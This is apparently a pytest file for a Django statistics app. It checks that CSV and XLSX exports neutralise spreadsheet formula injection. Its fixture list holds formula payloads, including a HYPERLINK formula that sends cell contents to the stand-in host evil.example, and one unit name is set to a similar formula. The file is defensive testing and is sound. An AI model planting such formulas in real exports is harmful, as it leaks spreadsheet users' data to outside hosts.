"""Formula injection in exports (issue 16 #3, OWASP "CSV injection").

A note such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` became a live formula in every
spreadsheet we hand out: the API's `?format=xlsx|csv`, `manage.py export_values` and the indicator page's
downloads. Now every text cell is a string cell in XLSX, and a CSV cell starting with `=`, `+`, `-`,
`@`, tab or CR gets a leading `'`; numbers stay numbers in both.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from indicators import exports
from indicators.services import ValueInput, record_values
from units.models import Unit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def escaped(text: str) -> str:
    """What a CSV cell holding `text` must contain."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.fixture
def hostile(staff):
    """One value per hostile note and raw text, and a value with a decimal part."""
    record_values(
        [
            ValueInput("DVC-SVC-RATE", "BP", f"2023-{m:02d}", Decimal(m), raw=text, note=text)
            for m, text in enumerate(HOSTILE, start=1)
        ]
        + [ValueInput("DVC-SVC-RATE", "BP", "2023-12", Decimal("7.5"), raw="-7,5", note="")],
        user=staff,
        source="form",
    )


def xlsx_rows(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def check_xlsx(content: bytes, header_row: int = 0):
    rows = xlsx_rows(content)
    header = [c.value for c in rows[header_row]]
    note, raw, value = header.index("note"), header.index("raw"), header.index("value")
    data = rows[header_row + 1 :]
    assert [r[note].value for r in data] == [*HOSTILE, None]
    assert [r[raw].value for r in data] == [*HOSTILE, "-7,5"]
    for row in data:
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    assert [r[value].value for r in data] == [*range(1, len(HOSTILE) + 1), 7.5]
    assert all(r[value].data_type == "n" for r in data)


def check_csv(content: bytes):
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [r["note"] for r in rows] == [*(escaped(t) for t in HOSTILE), ""]
    assert [r["raw"] for r in rows] == [*(escaped(t) for t in HOSTILE), "'-7,5"]
    assert [r["value"] for r in rows] == [*(str(m) for m in range(1, len(HOSTILE) + 1)), "7.5"]


@pytest.fixture
def api(staff):
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.get_or_create(user=staff)[0].key}")
    return client


def test_the_api_xlsx_holds_hostile_notes_as_text(hostile, api):
    response = api.get("/api/v1/values/?format=xlsx&indicator=DVC-SVC-RATE")
    assert response.status_code == 200
    check_xlsx(response.content)


def test_the_api_csv_escapes_hostile_notes_and_keeps_numbers(hostile, api):
    response = api.get("/api/v1/values/?format=csv&indicator=DVC-SVC-RATE")
    assert response.status_code == 200
    check_csv(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_values_writes_hostile_notes_as_text(hostile, tmp_path, fmt):
    target = tmp_path / f"so-lieu.{fmt}"
    call_command("export_values", "--format", fmt, "--indicator", "DVC-SVC-RATE", "--output", str(target))
    (check_csv if fmt == "csv" else check_xlsx)(target.read_bytes())


def test_the_writers_escape_every_text_column_not_only_notes():
    rows = [{"indicator": "=X", "unit": "+U", "period": "-P", "value": -1, "tiers": {"province": 1}}]
    parsed = next(csv.DictReader(io.StringIO(exports.to_csv(rows).decode("utf-8-sig"))))
    assert [parsed[k] for k in ("indicator", "unit", "period", "value", "tiers")] == [
        "'=X",
        "'+U",
        "'-P",
        "-1",
        '{"province":1}',
    ]
    [header, cells] = xlsx_rows(exports.to_xlsx(rows))
    assert [(c.value, c.data_type) for c in cells][:4] == [("=X", "s"), ("+U", "s"), ("-P", "s"), (-1, "n")]


@pytest.fixture
def hostile_names(hostile, staff, client, django_capture_on_commit_callbacks):
    """Catalogue names are text the downloads print too: a unit named like a formula."""
    Unit.objects.filter(code="BP").update(name='=HYPERLINK("http://evil.example/","Tỉnh")')
    client.force_login(staff)
    return client


def test_the_indicator_page_downloads_hold_hostile_names_as_text(hostile_names):
    csv_response = hostile_names.get("/indicators/DVC-SVC-RATE/tai-ve.csv?period=2023-01")
    assert csv_response.status_code == 200
    [row] = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))[1:]
    assert row[:5] == ["BP", '\'=HYPERLINK("http://evil.example/","Tỉnh")', "Cấp tỉnh", "2023-01", "1"]
    xlsx_response = hostile_names.get("/indicators/DVC-SVC-RATE/tai-ve.xlsx?period=2023-01")
    rows = xlsx_rows(xlsx_response.content)
    cell = rows[2][1]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil.example/","Tỉnh")', "s")
    assert (rows[2][4].value, rows[2][4].data_type) == (1, "n")


def test_text_xlsx_cannot_hold_is_marked_not_dropped_or_a_server_error():
    """Control characters (XML 1.0 has no place for them) used to raise in openpyxl: a 500 for a note
    pasted with one; a note longer than a cell holds was cut without a word."""
    rows = [{"indicator": "X", "note": "a\x01b\x1fc"}, {"indicator": "Y", "note": "x" * 40000}]
    [_, first, second] = xlsx_rows(exports.to_xlsx(rows))
    header = [c.value for c in xlsx_rows(exports.to_xlsx(rows))[0]]
    note = header.index("note")
    assert first[note].value == "a\ufffdb\ufffdc"
    assert len(second[note].value) == 32767
    assert second[note].value.endswith(" …[đã cắt: ô Excel chứa tối đa 32.767 ký tự]")
    parsed = list(csv.DictReader(io.StringIO(exports.to_csv(rows).decode("utf-8-sig"))))
    assert [r["note"] for r in parsed] == ["a\x01b\x1fc", "x" * 40000]
